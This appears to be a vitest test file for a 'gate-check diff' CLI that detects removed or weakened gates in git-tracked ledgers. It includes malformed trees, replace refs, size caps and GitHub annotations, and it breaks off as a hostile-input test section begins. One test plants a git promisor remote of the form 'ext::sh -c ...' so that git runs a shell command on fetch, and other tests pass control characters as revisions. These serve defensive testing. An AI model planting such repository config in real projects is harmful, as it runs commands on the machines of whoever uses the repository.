// gate-check diff BASE through the real CLI, in real git repositories with real commits: every
// kind of change alone, exit codes, the JSON schema, annotations as the runner reads them,
// hostile titles and paths, hostile objects and repository config, and a property test.
import { Ajv } from 'ajv';
import fc from 'fast-check';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { sanitizeLine } from '../../lib/text/sanitize.js';
import { reviewLine } from '../../lib/text/review-text.js';
import { runnerCommands } from '../helpers/actions-runner.js';
import { runCli, sandbox, startCli, writeFiles, type CliResult } from '../helpers/cli.js';
import { pidFrom, waitDead } from '../helpers/process.js';
import { applyCosmetic, applyWeakening, cosmeticEditArb, renderTree, treeArb, weakeningEditArb, type TreeModel } from '../helpers/ledger-model.js';

const schema = JSON.parse(readFileSync(resolve(import.meta.dirname, '../../references/diff.schema.json'), 'utf8'));
const validate = new Ajv({ allErrors: true, strict: true }).compile(schema);
function assertDiffSchema(doc: unknown): void {
  if (!validate(doc)) throw new Error('diff report does not match references/diff.schema.json:\n' + JSON.stringify(validate.errors, null, 2));
}

interface Finding {
  kind: string;
  severity: string;
  id: string | null;
  file: string | null;
  line: number | null;
  baseFile: string | null;
  baseLine: number | null;
  fields: { field: string; base: string | null; now: string | null; line: number | null }[];
}

const G1 = '- [ ] G1: tests pass\n  CHECK: npm test\n  EXPECT: /passed/\n  DEPENDS: a.js, b.js\n';
const G2 = '- [ ] G2: build works\n  CHECK: npm run build\n  EXPECT: built\n';
const M1 = '- [ ] M1: legal reviewed the wording\n';
const B1 = '- [ ] B1: docs build\n  CHECK: npm run docs\n  EXPECT: docs ok\n';
const S1 = '- [ ] S1: scope work done\n  CHECK: make s1\n  EXPECT: s1 ok\n';
const BASE_FILES = { 'GATES.md': G1 + G2 + M1, 'gates/b.md': B1, '.gate-check/s1/x.md': S1 };

function gitRepo(files: Record<string, string> = BASE_FILES) {
  const s = sandbox();
  const git = (...args: string[]) => execFileSync('git', ['-c', 'user.email=t@t', '-c', 'user.name=t', '-c', 'init.defaultBranch=main', ...args], { cwd: s.repo, env: s.env, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
  const gitIn = (input: Buffer | string, ...args: string[]) => execFileSync('git', args, { cwd: s.repo, env: s.env, input, encoding: 'utf8' }).trim();
  writeFiles(s.repo, files);
  git('init', '-q');
  git('add', '-A');
  git('commit', '-qm', 'base');
  const diff = (args: string[] = ['HEAD'], env: NodeJS.ProcessEnv = {}) => runCli(['diff', ...args], { cwd: s.repo, env: { ...s.env, ...env } });
  const json = (args: string[] = ['HEAD']) => {
    const r = diff([...args, '--json']);
    const doc = JSON.parse(r.stdout);
    assertDiffSchema(doc);
    expect(doc.exitCode).toBe(r.code);
    return { r, doc, changes: doc.changes as Finding[] };
  };
  return {
    ...s,
    git,
    gitIn,
    diff,
    json,
    write: (f: Record<string, string>) => writeFiles(s.repo, f),
    edit: (path: string, change: (text: string) => string) => writeFileSync(join(s.repo, path), change(readFileSync(join(s.repo, path), 'utf8'))),
    remove: (...paths: string[]) => paths.forEach((p) => rmSync(join(s.repo, p), { recursive: true, force: true })),
  };
}
type Repo = ReturnType<typeof gitRepo>;

const kinds = (cs: Finding[]) => cs.map((c) => `${c.severity} ${c.kind} ${c.id ?? c.file ?? c.baseFile}`);

describe('gate-check diff: each kind of change alone, through the CLI', () => {
  it('nothing changed: exit 0, and says so', () => {
    const s = gitRepo();
    const r = s.diff();
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^NO GATE REMOVED OR WEAKENED since HEAD \([0-9a-f]{12}\) \(gates: 5 at BASE, 5 now\)$/m);
    expect(s.json().changes).toEqual([]);
  });

  it('cosmetic edits only (reordering, whitespace, titles, evidence lines, ticked boxes, notes, CRLF): exit 0', () => {
    const s = gitRepo();
    s.write({
      'GATES.md':
        '# Gates\r\n\r\n' +
        M1.replace('\n', '\r\n') +
        '- [x] G2:   the build works now\r\n\tEXPECT: built\r\n\tCHECK:  npm run build \r\n\tEVIDENCE: exit=0; def=0123456789ab\r\n\r\nA paragraph.\r\n' +
        '- [x] G1: tests pass\r\n    DEPENDS: b.js,a.js\r\n    EXPECT: /passed/\r\n    CHECK: npm test\r\n    a note about it\r\n',
      'gates/b.md': '<!-- docs -->\n' + B1.replace('- [ ]', '- [x]'),
    });
    const r = s.diff();
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(s.json().changes).toEqual([]);
  });

  interface Case {
    name: string;
    change: (s: Repo) => void;
    kinds: string[];
    code: 0 | 1;
    check?: (changes: Finding[]) => void;
  }
  const cases: Case[] = [
    { name: 'a removed gate', change: (s) => s.edit('GATES.md', (t) => t.replace(G2, '')), kinds: ['weakened removed G2'], code: 1, check: ([c]) => expect(c).toMatchObject({ file: null, baseFile: 'GATES.md', baseLine: 5 }) },
    { name: 'a runnable gate turned manual', change: (s) => s.edit('GATES.md', (t) => t.replace('  CHECK: npm run build\n  EXPECT: built\n', '')), kinds: ['weakened turned-manual G2'], code: 1 },
    ...(
      [
        ['CHECK', 'CHECK: npm test', 'CHECK: npm test -- --bail', 'npm test', 'npm test -- --bail', 2],
        ['EXPECT', 'EXPECT: /passed/', 'EXPECT: /passed|failed/', '/passed/', '/passed|failed/', 3],
        ['CWD', '  DEPENDS', '  CWD: sub\n  DEPENDS', null, 'sub', 4],
        ['DEPENDS', 'DEPENDS: a.js, b.js', 'DEPENDS: b.js', 'a.js, b.js', 'b.js', 4],
        ['INPUTS', '  DEPENDS', '  INPUTS: data/*.json\n  DEPENDS', null, 'data/*.json', 4],
        ['TIMEOUT', '  DEPENDS', '  TIMEOUT: 3600\n  DEPENDS', null, '3600', 4],
      ] as const
    ).map(([field, from, to, before, after, line]): Case => ({
      name: `a changed ${field}`,
      change: (s) => s.edit('GATES.md', (t) => t.replace(from, to)),
      kinds: ['review changed G1'],
      code: 1,
      check: ([c]) => {
        expect(c!.fields).toEqual([{ field, base: before, now: after, line }]);
        expect(c!.line).toBe(line);
      },
    })),
    { name: 'a new ABANDON', change: (s) => s.edit('GATES.md', (t) => `${t}\nABANDON: M1 legal is on holiday\n`), kinds: ['weakened abandoned M1'], code: 1, check: ([c]) => expect(c).toMatchObject({ line: 10, fields: [{ field: 'ABANDON', now: 'legal is on holiday' }] }) },
    { name: 'a removed ledger file', change: (s) => s.remove('gates/b.md'), kinds: ['weakened ledger-removed gates/b.md', 'weakened removed B1'], code: 1 },
    { name: 'a deleted scope', change: (s) => s.remove('.gate-check/s1'), kinds: ['weakened ledger-removed .gate-check/s1/x.md', 'weakened removed S1'], code: 1 },
    { name: 'a manual gate turned runnable', change: (s) => s.edit('GATES.md', (t) => t.replace(M1, `${M1}  CHECK: true\n  EXPECT: x\n`)), kinds: ['review turned-runnable M1'], code: 1 },
    { name: 'a gate moved to another scope', change: (s) => (s.edit('gates/b.md', () => G2), s.edit('GATES.md', (t) => t.replace(G2, '')), s.write({ '.gate-check/s1/y.md': B1 })), kinds: ['review moved B1', 'info ledger-added .gate-check/s1/y.md', 'info moved G2'], code: 1 },
    { name: 'a renamed ledger file', change: (s) => s.git('mv', 'gates/b.md', 'gates/docs.md'), kinds: ['info ledger-renamed gates/docs.md'], code: 0, check: ([c]) => expect(c).toMatchObject({ baseFile: 'gates/b.md', file: 'gates/docs.md' }) },
    { name: 'a gate moved to another ledger of its scope', change: (s) => (s.edit('GATES.md', (t) => t.replace(G2, '')), s.edit('gates/b.md', (t) => t + G2)), kinds: ['info moved G2'], code: 0, check: ([c]) => expect(c).toMatchObject({ baseFile: 'GATES.md', baseLine: 5, file: 'gates/b.md', line: 4 }) },
    { name: 'gates swapped between ledgers', change: (s) => (s.write({ 'GATES.md': G1 + B1 + M1, 'gates/b.md': G2 })), kinds: ['info moved B1', 'info moved G2'], code: 0 },
    { name: 'an added gate', change: (s) => s.edit('GATES.md', (t) => t + '- [ ] G9: new outcome\n  CHECK: make g9\n  EXPECT: g9 ok\n'), kinds: ['info added G9'], code: 0 },
    { name: 'an added ledger and scope', change: (s) => s.write({ '.gate-check/s2/n.md': '- [ ] N1: new\n' }), kinds: ['info ledger-added .gate-check/s2/n.md', 'info added N1'], code: 0 },
    { name: 'a manual gate retitled', change: (s) => s.edit('GATES.md', (t) => t.replace('legal reviewed the wording', 'legal glanced at it')), kinds: ['info retitled M1'], code: 0 },
  ];

  for (const c of cases) {
    it(`${c.name}: exit ${c.code}`, () => {
      const s = gitRepo();
      c.change(s);
      const { r, changes } = s.json();
      expect(r.code, r.stderr).toBe(c.code);
      expect(kinds(changes)).toEqual(c.kinds);
      c.check?.(changes);
      const text = s.diff();
      expect(text.code).toBe(c.code);
      expect(text.stdout).toMatch(c.code === 1 ? /^GATES WEAKENED OR CHANGED since HEAD \([0-9a-f]{12}\): /m : /^NO GATE REMOVED OR WEAKENED since HEAD /m);
    });
  }

  it('the text names what changed, each on its own line, with both values of a changed field', () => {
    const s = gitRepo();
    s.edit('GATES.md', (t) => t.replace(G2, '').replace('npm test', 'npm test -- --bail'));
    const r = s.diff(['main']);
    expect(r.code).toBe(1);
    expect(r.stdout.split('\n').slice(0, 4)).toEqual([
      'WEAKENED GATES.md G2: removed (it was at main:GATES.md:5) "build works"',
      'REVIEW   GATES.md:2 G1: changed CHECK: a person must judge whether it still proves the outcome "tests pass"',
      '    CHECK at main: npm test',
      '    CHECK now: npm test -- --bail',
    ]);
    expect(r.stdout).toMatch(/^GATES WEAKENED OR CHANGED since main \([0-9a-f]{12}\): 1 weakened, 1 to review \(gates: 5 at BASE, 4 now\); a person must review these ledger changes$/m);
  });

  it('BASE is any commit git resolves (a branch, a tag, HEAD~1); the working tree is compared, committed or not', () => {
    const s = gitRepo();
    s.git('tag', 'v1');
    s.edit('GATES.md', (t) => t.replace(M1, ''));
    s.git('commit', '-qam', 'drop M1');
    expect(s.diff(['v1']).code).toBe(1);
    expect(s.diff(['HEAD~1']).code).toBe(1);
    expect(s.diff(['HEAD']).code).toBe(0);
    s.edit('GATES.md', (t) => t + M1);
    expect(s.diff(['HEAD~1']).code).toBe(0);
  });
});

describe('gate-check diff: exit 2 when there is nothing trustworthy to compare', () => {
  it('a BASE git cannot resolve, or that is not a revision', () => {
    const s = gitRepo();
    const r = s.diff(['no-such-branch']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/cannot resolve BASE "no-such-branch" to a commit/);
    expect(r.stdout).toBe('');
    for (const option of ['-x', '--output=/tmp/x']) {
      const b = s.diff([option]);
      expect(b.code, option).toBe(2);
      expect(b.stderr).toMatch(/unknown option/);
    }
    // Refused before git sees them (git would only say it cannot resolve them).
    for (const bad of ['a\nb', 'a\tb', 'a\u001b[31m', 'a\u202eb', '', 'x'.repeat(1025)]) {
      const b = s.diff([bad]);
      expect(b.code, JSON.stringify(bad)).toBe(2);
      expect(b.stderr, JSON.stringify(bad)).toMatch(/^gate-check: not a revision: /m);
    }
    const tree = s.git('rev-parse', 'HEAD^{tree}').trim();
    expect(s.diff([tree]).stderr).toMatch(/cannot resolve BASE "[0-9a-f]+" to a commit/);
  });

  it('with --json, a failure is still one document valid against the schema, with exitCode 2 and the error', () => {
    const s = gitRepo();
    const { r, doc } = s.json(['nope']);
    expect(r.code).toBe(2);
    expect(doc).toMatchObject({ exitCode: 2, base: { rev: 'nope', commit: null }, changes: [] });
    expect(doc.errors[0].message).toMatch(/cannot resolve BASE/);
  });

  it('a ledger that does not parse at BASE: exit 2 naming BASE:path:line', () => {
    const s = gitRepo({ 'GATES.md': G1 + '- [ ] G2 no colon\n' });
    s.write({ 'GATES.md': G1 + G2 });
    const r = s.diff();
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^error: HEAD:GATES\.md:5: gate line needs an explicit id/m);
    const { doc } = s.json();
    expect(doc.errors[0]).toMatchObject({ file: 'HEAD:GATES.md', line: 5 });
  });

  it('a ledger that does not parse now, or is not UTF-8 at BASE: exit 2 naming it', () => {
    const s = gitRepo();
    s.write({ '.gate-check/s1/x.md': S1 + '  CHECK: again\n' });
    const r = s.diff();
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^error: \.gate-check\/s1\/x\.md:4: duplicate CHECK/m);
    const t = gitRepo({ 'GATES.md': G1 });
    mkdirSync(join(t.repo, 'gates'));
    writeFileSync(join(t.repo, 'gates/x.md'), Buffer.concat([Buffer.from('- [ ] X: '), Buffer.from([0xff]), Buffer.from('\n')]));
    t.git('add', '-A');
    t.git('commit', '-qm', 'latin-1');
    t.remove('gates');
    expect(t.diff().stderr).toMatch(/HEAD:gates\/x\.md: ledger is not valid UTF-8/);
  });

  it('no ledger at BASE or now is not a pass', () => {
    const s = gitRepo({ 'README.md': 'hi\n' });
    const r = s.diff();
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/no ledgers to compare/);
  });

  it('outside a git working tree', () => {
    const s = sandbox();
    writeFiles(s.repo, { 'GATES.md': G1 });
    const r = runCli(['diff', 'HEAD'], { cwd: s.repo, env: s.env });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/is not inside a git working tree/);
  });

  it('a refusal of discovery now (a symlinked ledger) is exit 2, as in every command', () => {
    const s = gitRepo();
    s.remove('gates/b.md');
    symlinkSync(join(s.repo, 'GATES.md'), join(s.repo, 'gates/b.md'));
    expect(s.diff().stderr).toMatch(/gates\/b\.md is a symbolic link \(refused\)/);
    const t = gitRepo();
    t.remove('.gate-check/s1');
    symlinkSync(join(t.repo, 'gates'), join(t.repo, '.gate-check/s1'));
    expect(t.diff().code).toBe(2);
    expect(t.diff().stderr).toMatch(/\.gate-check\/s1 is a symbolic link \(refused\)/);
  });
});

describe('gate-check diff: what BASE holds is read as discovery would read it, bounded', () => {
  it('a symlinked GATES.md at BASE, a submodule where gates/ was, a symlinked scope: exit 2', () => {
    const s = gitRepo({ 'real.md': G1 });
    symlinkSync('real.md', join(s.repo, 'GATES.md'));
    s.git('add', '-A');
    s.git('commit', '-qm', 'link');
    s.remove('GATES.md');
    s.write({ 'GATES.md': G1 });
    const r = s.diff();
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/HEAD:GATES\.md is a symbolic link at BASE \(refused/);

    const t = gitRepo({ 'GATES.md': G1 });
    const head = t.git('rev-parse', 'HEAD').trim();
    t.git('update-index', '--add', '--cacheinfo', `160000,${head},gates`);
    t.git('commit', '-qm', 'submodule');
    expect(t.diff().stderr).toMatch(/HEAD:gates is a submodule at BASE \(refused/);

    const u = gitRepo({ 'GATES.md': G1, 'elsewhere/x.md': S1 });
    mkdirSync(join(u.repo, '.gate-check'));
    symlinkSync('../elsewhere', join(u.repo, '.gate-check/s1'));
    u.git('add', '-A');
    u.git('commit', '-qm', 'scope link');
    u.remove('.gate-check');
    expect(u.diff().stderr).toMatch(/HEAD:\.gate-check\/s1 is a symbolic link at BASE \(refused/);
  });

  it('a symlink among gates/*.md, a file where .gate-check/ was, a file where --root was: exit 2 naming it', () => {
    const s = gitRepo({ 'GATES.md': G1, 'real.md': B1 });
    mkdirSync(join(s.repo, 'gates'));
    symlinkSync('../real.md', join(s.repo, 'gates/b.md'));
    s.git('add', '-A');
    s.git('commit', '-qm', 'link');
    s.remove('gates');
    expect(s.diff().stderr).toMatch(/HEAD:gates\/b\.md is a symbolic link at BASE \(refused: ledgers are regular files\)/);

    const t = gitRepo({ 'GATES.md': G1, '.gate-check': 'not a folder\n' });
    t.remove('.gate-check');
    expect(t.diff().stderr).toMatch(/HEAD:\.gate-check is a file at BASE \(refused: ledger folders are real directories\)/);

    const u = gitRepo({ 'GATES.md': G1, 'app': 'a file\n' });
    u.remove('app');
    u.write({ 'app/GATES.md': G1 });
    expect(u.diff(['HEAD', '--root', 'app']).stderr).toMatch(/HEAD:app\/ is a file at BASE, not a directory \(refused\)/);
  });

  it('an entry whose mode says file but whose object is a tree (or the reverse) is refused, not guessed at', () => {
    const s = gitRepo({ 'GATES.md': G1, 'gates/b.md': B1 });
    const entry = (mode: string, name: string, oid: string) => Buffer.concat([Buffer.from(`${mode} ${name}\0`), Buffer.from(oid, 'hex')]);
    const tree = (...entries: Buffer[]) => s.gitIn(Buffer.concat(entries), 'hash-object', '-t', 'tree', '-w', '--literally', '--stdin');
    const commit = (t: string) => s.gitIn('', '-c', 'user.email=t@t', '-c', 'user.name=t', 'commit-tree', t, '-m', 'odd');
    const gatesTree = s.git('rev-parse', 'HEAD:gates').trim();
    const ledger = s.git('rev-parse', 'HEAD:GATES.md').trim();
    expect(s.diff([commit(tree(entry('100644', 'GATES.md', gatesTree)))]).stderr).toMatch(/:GATES\.md is a tree, not a file/);
    expect(s.diff([commit(tree(entry('100644', 'GATES.md', ledger), entry('40000', 'gates', ledger)))]).stderr).toMatch(/:gates is a blob, not a directory/);
  });

  it('a ledger name that is not UTF-8 at BASE is refused (two such names could look alike)', () => {
    const s = gitRepo({ 'GATES.md': G1 });
    const blob = s.gitIn(B1, 'hash-object', '-w', '--stdin');
    const entry = (mode: string, name: Buffer, oid: string) => Buffer.concat([Buffer.from(`${mode} `), name, Buffer.from('\0'), Buffer.from(oid, 'hex')]);
    const gates = s.gitIn(entry('100644', Buffer.from([0x61, 0xff, 0x2e, 0x6d, 0x64]), blob), 'hash-object', '-t', 'tree', '-w', '--literally', '--stdin');
    const top = s.gitIn(Buffer.concat([entry('100644', Buffer.from('GATES.md'), s.git('rev-parse', 'HEAD:GATES.md').trim()), entry('40000', Buffer.from('gates'), gates)]), 'hash-object', '-t', 'tree', '-w', '--literally', '--stdin');
    const commit = s.gitIn('', '-c', 'user.email=t@t', '-c', 'user.name=t', 'commit-tree', top, '-m', 'odd');
    const r = s.diff([commit]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/:gates\/a\ufffd\.md: a name that is not valid UTF-8 \(refused\)/);
  });

  it('dot entries and plain files in .gate-check/ hold no ledgers, at BASE and now; other entries now are refused', () => {
    const s = gitRepo({ 'GATES.md': G1, '.gate-check/.state/x.md': B1, '.gate-check/README.md': 'about scopes\n', '.gate-check/s1/x.md': S1, '.gate-check/s1/.draft.md': B1, 'gates/.draft.md': B1 });
    s.remove('.gate-check/.state', '.gate-check/README.md', '.gate-check/s1/.draft.md', 'gates/.draft.md');
    expect(s.json().changes).toEqual([]);
    s.write({ '.gate-check/.state/y.md': 'not a ledger at all', '.gate-check/notes.md': 'nor this' });
    expect(s.diff().code).toBe(0);
    execFileSync('mkfifo', [join(s.repo, '.gate-check/pipe')]);
    const r = s.diff();
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/\.gate-check\/pipe is not a directory \(refused\)/);
    const f = gitRepo({ 'GATES.md': G1 });
    writeFileSync(join(f.repo, '.gate-check'), 'a file\n');
    expect(f.diff().stderr).toMatch(/\.gate-check is not a directory/);
    const t = gitRepo({ 'GATES.md': G1 });
    mkdirSync(join(t.home, 'scopes'));
    symlinkSync(join(t.home, 'scopes'), join(t.repo, '.gate-check'));
    expect(t.diff().stderr).toMatch(/\.gate-check is a symbolic link \(refused/);
  });

  it('more than 64 MiB of ledgers at BASE in all is refused (exit 2)', () => {
    const big = G1 + `  ${'y'.repeat(7 * 1024 * 1024)}\n`;
    const files: Record<string, string> = {};
    for (let i = 0; i < 10; i++) files[`gates/l${i}.md`] = big.replace('G1', `G${i}`);
    const s = gitRepo(files);
    s.remove('gates');
    s.write({ 'GATES.md': G1 });
    const r = s.diff();
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/reading it would pass 67108864 bytes read from BASE in all \(refused\)/);
  });

  it('a ledger over 8 MiB at BASE is refused at its header, not read (exit 2)', () => {
    // A valid ledger: without the cap it would parse, and the removed gate would be exit 1.
    const s = gitRepo({ 'GATES.md': G1 + G2 + `  ${'x'.repeat(9 * 1024 * 1024)}\n` });
    s.write({ 'GATES.md': G1 });
    const started = Date.now();
    const r = s.diff();
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/HEAD:GATES\.md: is 9437\d{3} bytes at BASE \(at most 8388608\)/);
    expect(Date.now() - started).toBeLessThan(15_000);
  });

  it('a tree object with two entries of one name (one would hide the other) is malformed: exit 2', () => {
    const s = gitRepo({ 'GATES.md': G1 });
    const blobA = s.gitIn(G1, 'hash-object', '-w', '--stdin');
    const blobB = s.gitIn(G1 + G2, 'hash-object', '-w', '--stdin');
    const entry = (name: string, oid: string) => Buffer.concat([Buffer.from(`100644 ${name}\0`), Buffer.from(oid, 'hex')]);
    const tree = s.gitIn(Buffer.concat([entry('GATES.md', blobA), entry('GATES.md', blobB)]), 'hash-object', '-t', 'tree', '-w', '--literally', '--stdin');
    const commit = s.gitIn('', '-c', 'user.email=t@t', '-c', 'user.name=t', 'commit-tree', tree, '-m', 'dup');
    const r = s.diff([commit]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/malformed tree object \(refused\)/);
  });

  it('a ledger whose name is odd at BASE (refused now) can be renamed: BASE is read leniently about names only', () => {
    const s = gitRepo({ 'GATES.md': G1, 'gates/a b.md': B1 });
    s.git('mv', 'gates/a b.md', 'gates/ab.md');
    const { r, changes } = s.json();
    expect(r.code).toBe(0);
    expect(kinds(changes)).toEqual(['info ledger-renamed gates/ab.md']);
  });
});

describe('gate-check diff: repository state cannot make git run a command or show another BASE', () => {
  it('a partial clone whose promisor remote is ext::<command>: the lazy fetch is refused (the control: plain git runs it)', () => {
    const s = gitRepo({ 'GATES.md': G1 + G2 });
    s.write({ 'GATES.md': G1 });
    const blob = s.git('rev-parse', 'HEAD:GATES.md').trim();
    unlinkSync(join(s.repo, '.git/objects', blob.slice(0, 2), blob.slice(2)));
    const marker = join(s.home, 'lazy-fetch-ran');
    for (const [k, v] of [
      ['core.repositoryformatversion', '1'],
      ['extensions.partialClone', 'origin'],
      ['remote.origin.promisor', 'true'],
      ['remote.origin.url', `ext::sh -c touch% ${marker}`],
      ['protocol.ext.allow', 'always'],
    ]) {
      s.git('config', k!, v!);
    }
    try {
      execFileSync('git', ['cat-file', '-p', `${blob}`], { cwd: s.repo, env: s.env, stdio: 'ignore' });
    } catch {
      /* the fetch "fails" after running the command */
    }
    expect(existsSync(marker)).toBe(true);
    rmSync(marker);
    const r = s.diff();
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/HEAD:GATES\.md: the object is not in this clone/);
    expect(existsSync(marker)).toBe(false);
  });

  it('a replace ref that swaps BASE\'s ledger for the weakened one is ignored (the control: git show follows it)', () => {
    const s = gitRepo({ 'GATES.md': G1 + G2 });
    s.write({ 'GATES.md': G1 });
    const weakened = s.gitIn(G1, 'hash-object', '-w', '--stdin');
    s.git('replace', s.git('rev-parse', 'HEAD:GATES.md').trim(), weakened);
    expect(s.git('show', 'HEAD:GATES.md')).toBe(G1);
    const { r, changes } = s.json();
    expect(r.code).toBe(1);
    expect(kinds(changes)).toEqual(['weakened removed G2']);
  });

});

describe('gate-check diff: interrupted, and its one file write', () => {
  it('an interrupt while git reads BASE kills git and exits 130', async () => {
    const s = gitRepo();
    const bin = join(s.home, 'bin');
    mkdirSync(bin);
    const pidFile = join(s.home, 'git.pid');
    // A stand-in git that answers rev-parse and then hangs in cat-file, as a slow disk would.
    writeFileSync(
      join(bin, 'git'),
      `#!/bin/sh\nfor a in "$@"; do case "$a" in cat-file) mode=cat;; --show-prefix) mode=prefix;; --verify) mode=verify;; esac; done\ncase "$mode" in\n  prefix) printf '\\n';;\n  verify) echo ${'ab'.repeat(20)};;\n  cat) echo $$ > '${pidFile}'; exec sleep 30;;\nesac\n`,
    );
    chmodSync(join(bin, 'git'), 0o755);
    const cli = startCli(['diff', 'HEAD'], { cwd: s.repo, env: { ...s.env, PATH: `${bin}:${s.env.PATH}` } });
    const pid = await pidFrom(pidFile);
    cli.child.kill('SIGINT');
    const r = await cli.done;
    expect(r.code).toBe(130);
    expect(r.stderr).toMatch(/interrupted \(SIGINT\): BASE not read/);
    expect(await waitDead(pid)).toBe(true);
  });

  it('GITHUB_STEP_SUMMARY naming a ledger is refused (exit 2) and the ledger is untouched', () => {
    const s = gitRepo();
    const before = readFileSync(join(s.repo, 'GATES.md'), 'utf8');
    const r = s.diff(['HEAD'], { GITHUB_ACTIONS: 'true', GITHUB_STEP_SUMMARY: join(s.repo, 'gates/b.md') });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/gates\/b\.md: is the ledger .* \(refused: a report never replaces or extends a ledger\)/);
    expect(readFileSync(join(s.repo, 'GATES.md'), 'utf8')).toBe(before);
    expect(readFileSync(join(s.repo, 'gates/b.md'), 'utf8')).toBe(B1);
  });
});

describe('gate-check diff: scopes and roots', () => {
  it('by default every scope at either revision; --scope compares one, whether it exists at BASE, now, or both', () => {
    const s = gitRepo();
    s.edit('GATES.md', (t) => t.replace(G2, ''));
    s.remove('.gate-check/s1');
    s.write({ '.gate-check/s2/n.md': '- [ ] N1: n\n' });
    expect(kinds(s.json().changes)).toEqual(['weakened ledger-removed .gate-check/s1/x.md', 'weakened removed S1', 'weakened removed G2', 'info ledger-added .gate-check/s2/n.md', 'info added N1']);
    expect(kinds(s.json(['HEAD', '--scope', 's1']).changes)).toEqual(['weakened ledger-removed .gate-check/s1/x.md', 'weakened removed S1']);
    const s2 = s.json(['HEAD', '--scope', 's2']);
    expect(s2.r.code).toBe(0);
    expect(s2.doc.scope).toBe('s2');
    const none = s.diff(['HEAD', '--scope', 's9']);
    expect(none.code).toBe(2);
    expect(none.stderr).toMatch(/no ledgers to compare: neither HEAD nor the working tree has scope s9/);
    expect(s.diff(['HEAD', '--scope', '../x']).stderr).toMatch(/invalid scope id/);
  });

  it('--root in a subdirectory of the repository: paths are relative to it, annotations to the repository', () => {
    const s = gitRepo({ 'packages/app/GATES.md': G1 + G2, 'GATES.md': M1 });
    s.edit('packages/app/GATES.md', (t) => t.replace('npm test', 'npm t'));
    const r = s.diff(['HEAD', '--root', 'packages/app'], { GITHUB_ACTIONS: 'true' });
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/^REVIEW {3}GATES\.md:2 G1: changed CHECK/m);
    const [a] = runnerCommands(r.stdout);
    expect(a).toMatchObject({ command: 'warning', properties: { file: 'packages/app/GATES.md', line: '2' } });
    // The root did not exist at BASE: every gate is added.
    const t = gitRepo({ 'GATES.md': M1 });
    t.write({ 'new/GATES.md': G1 });
    expect(kinds(t.json(['HEAD', '--root', 'new']).changes)).toEqual(['info ledger-added GATES.md', 'info added G1']);
  });
});

describe('gate-check diff on GitHub Actions', () => {
  function weakenedRepo() {
    const s = gitRepo();
    s.edit('GATES.md', (t) => `${t.replace(G2, '').replace('EXPECT: /passed/', 'EXPECT: /pass/')}\nABANDON: M1 later\n`);
    return s;
  }

  it('an ::error per weakening and a ::warning per change to review, on the line; a step summary table', () => {
    const s = weakenedRepo();
    const summary = join(s.home, 'summary.md');
    writeFileSync(summary, '# earlier step\n');
    const r = s.diff(['HEAD'], { GITHUB_ACTIONS: 'true', GITHUB_STEP_SUMMARY: summary });
    expect(r.code).toBe(1);
    const commands = runnerCommands(r.stdout);
    expect(commands.map((c) => [c.command, c.properties])).toEqual([
      ['error', { file: 'GATES.md', title: 'gate-check diff: G2' }],
      ['error', { file: 'GATES.md', line: '7', title: 'gate-check diff: M1' }],
      ['warning', { file: 'GATES.md', line: '3', title: 'gate-check diff: G1' }],
    ]);
    expect(commands[0]!.data).toBe('G2 (build works): removed (it was at HEAD:GATES.md:5)');
    expect(commands[2]!.data).toBe('G1 (tests pass): changed EXPECT: a person must judge whether it still proves the outcome. EXPECT: /passed/ -> /pass/');
    const md = readFileSync(summary, 'utf8');
    expect(md.startsWith('# earlier step\n### gate-check diff since HEAD: 2 weakened, 1 to review\n')).toBe(true);
    expect(md).toContain('| review | changed | G1\\: tests pass | GATES\\.md | EXPECT\\: \\/passed\\/ → \\/pass\\/ |');
    expect(md).toContain('| weakened | removed | G2\\: build works | GATES\\.md | removed \\(it was at HEAD\\:GATES\\.md\\:5\\) |');
  });

  it('with --json, stdout is the document alone and the annotations go to stderr', () => {
    const s = weakenedRepo();
    const r = s.diff(['HEAD', '--json'], { GITHUB_ACTIONS: 'true' });
    expect(r.code).toBe(1);
    assertDiffSchema(JSON.parse(r.stdout));
    expect(runnerCommands(r.stdout)).toEqual([]);
    expect(runnerCommands(r.stderr).map((c) => c.command)).toEqual(['error', 'error', 'warning']);
  });

  it('GitHub keeps 10 errors per step: the first 10, then one warning that sums up the rest', () => {
    const gates = Array.from({ length: 14 }, (_, i) => `- [ ] R${i}: r${i}\n`).join('');
    const s = gitRepo({ 'GATES.md': gates + '- [ ] K: kept\n  CHECK: x\n  EXPECT: y\n' });
    s.write({ 'GATES.md': '- [ ] K: kept\n  CHECK: z\n  EXPECT: y\n' });
    const commands = runnerCommands(s.diff(['HEAD'], { GITHUB_ACTIONS: 'true' }).stdout);
    expect(commands.filter((c) => c.command === 'error')).toHaveLength(10);
    expect(commands.filter((c) => c.command === 'warning').map((c) => c.data)).toEqual([
      '4 more gates removed or weakened: GATES.md:R10, GATES.md:R11, GATES.md:R12, GATES.md:R13',
      expect.stringMatching(/^K \(kept\): changed CHECK/),
    ]);
  });

  it('no ledger change: no annotation, a summary that says so', () => {
    const s = gitRepo();
    const summary = join(s.home, 'summary.md');
    const r = s.diff(['HEAD'], { GITHUB_ACTIONS: 'true', GITHUB_STEP_SUMMARY: summary });
    expect(r.code).toBe(0);
    expect(runnerCommands(r.stdout)).toEqual([]);
    expect(readFileSync(summary, 'utf8')).toMatch(/^### gate-check diff since HEAD: no gate removed or weakened$/m);
  });
});

describe('gate-check diff: hostile titles, commands and paths are data', () => {
